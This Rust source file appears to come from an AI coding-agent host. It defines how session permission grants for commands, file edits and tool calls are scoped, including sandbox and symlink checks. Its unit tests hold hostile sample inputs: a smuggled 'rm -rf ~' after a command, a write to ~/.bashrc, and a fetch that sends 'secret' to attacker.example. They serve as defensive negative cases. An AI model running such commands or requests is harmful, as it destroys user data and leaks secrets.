//! What a session grant covers (`GrantScope`) and how one is listed (`GrantView`): exactly
//! the request its card showed. The rules for using grants are in `grants.rs`.

use std::path::Path;

use forkhost_store::GrantRow;
use serde::{Deserialize, Serialize};

use crate::base::view::SubjectView;

/// Exactly what a grant covers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ts_rs::TS)]
#[serde(tag = "kind", rename_all = "snake_case")]
#[ts(export)]
pub enum GrantScope {
    /// This command, run in this folder.
    Command {
        command: String,
        cwd: Option<String>,
        /// Granted for a run outside the harness's sandbox; a grant for a sandboxed run never
        /// covers one outside it (review L-2). Absent in grants recorded before.
        #[serde(default, skip_serializing_if = "std::ops::Not::not")]
        #[ts(as = "Option<bool>", optional)]
        unsandboxed: bool,
    },
    /// Changes to these files; a later change matches when every file it touches is here,
    /// and still lands where it did when granted.
    FileChange {
        paths: Vec<String>,
        /// Where each path landed on disk when granted (its folders' symlinks resolved; see
        /// [`landing`]), in the order of `paths`: a path that is a symlink now, or goes through
        /// one to elsewhere, is asked about again (review L-1). Empty in grants recorded
        /// before, which then cover nothing.
        #[serde(default, skip_serializing_if = "Vec::is_empty")]
        #[ts(skip)]
        real: Vec<String>,
    },
    /// This tool with exactly this input.
    Tool {
        name: String,
        #[ts(type = "unknown")]
        input: serde_json::Value,
    },
}

impl GrantScope {
    /// The scope of approving `subject` for the session; questions grant nothing, nor does a
    /// file change that names no file.
    pub fn of(subject: &SubjectView) -> Option<GrantScope> {
        match subject {
            SubjectView::Command {
                command,
                cwd,
                unsandboxed,
            } => Some(GrantScope::Command {
                command: command.clone(),
                cwd: cwd.as_deref().map(path_text),
                unsandboxed: *unsandboxed,
            }),
            SubjectView::FileChange { paths, .. } if !paths.is_empty() => {
                let mut paths = paths.clone();
                paths.sort();
                paths.dedup();
                Some(GrantScope::FileChange {
                    paths,
                    real: Vec::new(),
                })
            }
            SubjectView::FileChange { .. } | SubjectView::Question { .. } => None,
            SubjectView::Tool { name, input } => Some(GrantScope::Tool {
                name: name.clone(),
                input: input.clone(),
            }),
        }
    }

    /// Whether a request for `subject` is one the user already allowed under this scope.
    pub fn covers(&self, subject: &SubjectView) -> bool {
        match (self, subject) {
            (
                GrantScope::Command {
                    command,
                    cwd,
                    unsandboxed,
                },
                SubjectView::Command {
                    command: asked,
                    cwd: asked_cwd,
                    unsandboxed: asked_unsandboxed,
                },
            ) => {
                command == asked
                    && cwd.as_deref() == asked_cwd.as_deref().map(path_text).as_deref()
                    && (*unsandboxed || !*asked_unsandboxed)
            }
            (
                GrantScope::FileChange { paths, .. },
                SubjectView::FileChange { paths: asked, .. },
            ) => !asked.is_empty() && asked.iter().all(|p| paths.contains(p)),
            (
                GrantScope::Tool { name, input },
                SubjectView::Tool {
                    name: asked,
                    input: asked_input,
                },
            ) => name == asked && input == asked_input,
            _ => false,
        }
    }

    /// The scope in a few words, for the card, the header's list and the CLI.
    pub fn words(&self) -> String {
        match self {
            GrantScope::Command {
                command,
                cwd,
                unsandboxed,
            } => {
                let outside = match unsandboxed {
                    true => " outside the sandbox",
                    false => "",
                };
                match cwd {
                    Some(cwd) => format!("run `{command}` in {cwd}{outside}"),
                    None => format!("run `{command}`{outside}"),
                }
            }
            GrantScope::FileChange { paths, .. } => format!("change {}", paths.join(", ")),
            GrantScope::Tool { name, input } => {
                let input = input.to_string();
                match input.chars().count() > 160 {
                    true => format!(
                        "use {name} with {}…",
                        input.chars().take(160).collect::<String>()
                    ),
                    false => format!("use {name} with {input}"),
                }
            }
        }
    }
}

impl GrantScope {
    /// The scope as it is kept: a file change with where each path lands now ([`landing`]).
    /// `None` when a path cannot be followed to a place (relative, a symlink, `..`): such a
    /// change is asked about each time.
    pub(crate) fn resolved(self) -> Option<GrantScope> {
        match self {
            GrantScope::FileChange { paths, .. } => {
                let real = paths
                    .iter()
                    .map(|p| landing(p))
                    .collect::<Option<Vec<_>>>()?;
                Some(GrantScope::FileChange { paths, real })
            }
            other => Some(other),
        }
    }

    /// Whether every file `subject` changes still lands where it did when granted (for a
    /// file change; anything else is not about places).
    pub(crate) fn lands_as_granted(&self, subject: &SubjectView) -> bool {
        let (GrantScope::FileChange { paths, real }, SubjectView::FileChange { paths: asked, .. }) =
            (self, subject)
        else {
            return true;
        };
        real.len() == paths.len()
            && asked.iter().all(|p| {
                let at = paths.iter().position(|g| g == p);
                at.is_some_and(|i| landing(p).as_deref() == Some(real[i].as_str()))
            })
    }
}

/// Where an absolute `path` lands: its nearest existing folder's real path with the rest
/// appended. `None` for a relative path, one with `..`, or one that is itself a symlink.
pub(crate) fn landing(path: &str) -> Option<String> {
    let path = Path::new(path);
    if !path.is_absolute()
        || path
            .components()
            .any(|c| matches!(c, std::path::Component::ParentDir))
    {
        return None;
    }
    if std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink()) {
        return None;
    }
    let mut tail = Vec::new();
    let mut at = path;
    loop {
        if let Ok(real) = dunce::canonicalize(at) {
            let mut landed = real;
            for part in tail.iter().rev() {
                landed.push(part);
            }
            return Some(path_text(&landed));
        }
        tail.push(at.file_name()?.to_owned());
        at = at.parent()?;
    }
}

fn path_text(path: &Path) -> String {
    path.display().to_string()
}

/// A grant as the app and the CLI list it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, ts_rs::TS)]
#[ts(export)]
pub struct GrantView {
    /// Revoke it by this id.
    pub id: String,
    pub scope: GrantScope,
    /// What it allows, in words.
    pub words: String,
    /// When it was granted, in ms since the epoch.
    #[ts(type = "number")]
    pub granted_at: i64,
}

impl GrantView {
    pub(crate) fn from_row(row: GrantRow) -> Option<GrantView> {
        // A scope this version cannot read grants nothing (and is still listed nowhere).
        let scope: GrantScope = serde_json::from_str(&row.scope).ok()?;
        Some(GrantView {
            id: row.id,
            words: scope.words(),
            scope,
            granted_at: row.granted_at,
        })
    }
}

pub(crate) fn now_ms() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as i64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn command(command: &str, cwd: &str) -> SubjectView {
        SubjectView::Command {
            command: command.into(),
            cwd: Some(cwd.into()),
            unsandboxed: false,
        }
    }

    /// Review L-2: the sandbox-escape flag is part of what a grant covers.
    #[test]
    fn a_grant_for_a_sandboxed_run_never_covers_one_outside_the_sandbox() {
        let outside = |c: &str| SubjectView::Command {
            command: c.into(),
            cwd: Some("/a".into()),
            unsandboxed: true,
        };
        let grant = GrantScope::of(&command("touch x", "/a")).unwrap();
        assert!(!grant.covers(&outside("touch x")));
        let wide = GrantScope::of(&outside("touch x")).unwrap();
        assert!(wide.covers(&outside("touch x")));
        assert!(wide.covers(&command("touch x", "/a")));
        assert!(
            wide.words().ends_with("outside the sandbox"),
            "{}",
            wide.words()
        );
        // A grant recorded before the flag reads as a sandboxed one.
        let old: GrantScope =
            serde_json::from_str(r#"{"kind":"command","command":"touch x","cwd":"/a"}"#).unwrap();
        assert_eq!(old, grant);
    }

    fn files(paths: &[&str]) -> SubjectView {
        SubjectView::FileChange {
            paths: paths.iter().map(|p| p.to_string()).collect(),
            diff: None,
        }
    }

    #[test]
    fn a_file_grant_covers_its_own_files_only() {
        // H1: one "Always" on an in-project write never covers ~/.bashrc.
        let grant = GrantScope::of(&files(&["/w/a.txt"])).unwrap();
        assert!(grant.covers(&files(&["/w/a.txt"])));
        assert!(!grant.covers(&files(&["/home/u/.bashrc"])));
        assert!(!grant.covers(&files(&["/w/a.txt", "/home/u/.bashrc"])));
        assert!(
            !grant.covers(&files(&[])),
            "a change naming no file is asked"
        );
        let two = GrantScope::of(&files(&["/w/b", "/w/a", "/w/a"])).unwrap();
        assert_eq!(
            two,
            GrantScope::FileChange {
                paths: vec!["/w/a".into(), "/w/b".into()],
                real: Vec::new(),
            }
        );
        assert!(two.covers(&files(&["/w/b"])));
        assert!(GrantScope::of(&files(&[])).is_none());
    }

    /// Review L-1: a granted path that later is, or goes through, a symlink is asked again.
    #[cfg(unix)]
    #[test]
    fn a_file_grant_holds_only_while_its_path_lands_where_it_did() {
        let dir = tempfile::tempdir().unwrap();
        let root = dunce::canonicalize(dir.path()).unwrap();
        let (x, y) = (root.join("x"), root.join("y"));
        std::fs::create_dir_all(&x).unwrap();
        std::fs::create_dir_all(&y).unwrap();
        std::fs::write(x.join("a"), "a").unwrap();
        std::fs::write(y.join("b"), "b").unwrap();
        let a = x.join("a").display().to_string();
        let new = x.join("new").display().to_string();
        let grant = GrantScope::of(&files(&[&a, &new]))
            .unwrap()
            .resolved()
            .unwrap();
        assert!(grant.lands_as_granted(&files(&[&a])));
        assert!(
            grant.lands_as_granted(&files(&[&new])),
            "a file yet to be made"
        );
        // `a` becomes a symlink to elsewhere: asked again.
        std::fs::remove_file(x.join("a")).unwrap();
        std::os::unix::fs::symlink(y.join("b"), x.join("a")).unwrap();
        assert!(grant.covers(&files(&[&a])), "the same path string");
        assert!(!grant.lands_as_granted(&files(&[&a])));
        // Its folder becomes a symlink: every path through it is asked again.
        std::fs::remove_dir_all(&x).unwrap();
        std::os::unix::fs::symlink(&y, &x).unwrap();
        assert!(!grant.lands_as_granted(&files(&[&new])));
        // A grant kept before the places were recorded covers nothing.
        let old = GrantScope::of(&files(&[&new])).unwrap();
        assert!(!old.lands_as_granted(&files(&[&new])));
        assert!(GrantScope::of(&files(&["rel.txt"]))
            .unwrap()
            .resolved()
            .is_none());
    }

    #[test]
    fn a_command_grant_needs_the_same_command_in_the_same_folder() {
        let grant = GrantScope::of(&command("touch x", "/a")).unwrap();
        assert!(grant.covers(&command("touch x", "/a")));
        assert!(!grant.covers(&command("touch x", "/b")));
        assert!(!grant.covers(&command("touch x; rm -rf ~", "/a")));
        assert!(!grant.covers(&SubjectView::Command {
            command: "touch x".into(),
            cwd: None,
            unsandboxed: false,
        }));
        assert!(
            !grant.covers(&files(&["/a/x"])),
            "another kind never matches"
        );
    }

    #[test]
    fn a_tool_grant_needs_exactly_the_same_input() {
        let fetch = |url: &str| SubjectView::Tool {
            name: "WebFetch".into(),
            input: json!({ "url": url }),
        };
        let grant = GrantScope::of(&fetch("https://docs.rs")).unwrap();
        assert!(grant.covers(&fetch("https://docs.rs")));
        assert!(!grant.covers(&fetch("https://attacker.example/?d=secret")));
        assert!(!grant.covers(&SubjectView::Tool {
            name: "Read".into(),
            input: json!({ "url": "https://docs.rs" })
        }));
        assert!(GrantScope::of(&SubjectView::Question { questions: vec![] }).is_none());
    }

    #[test]
    fn scopes_round_trip_and_say_what_they_allow() {
        let scope = GrantScope::of(&command("touch x", "/w")).unwrap();
        let text = serde_json::to_string(&scope).unwrap();
        assert_eq!(serde_json::from_str::<GrantScope>(&text).unwrap(), scope);
        assert_eq!(scope.words(), "run `touch x` in /w");
        let view = GrantView::from_row(GrantRow {
            id: "g".into(),
            thread_id: "t".into(),
            scope: text,
            granted_at: 1,
        })
        .unwrap();
        assert_eq!(view.words, "run `touch x` in /w");
        assert!(
            GrantView::from_row(GrantRow {
                id: "old".into(),
                thread_id: "t".into(),
                scope: "file_change".into(),
                granted_at: 1,
            })
            .is_none(),
            "an unreadable scope grants nothing"
        );
    }
}
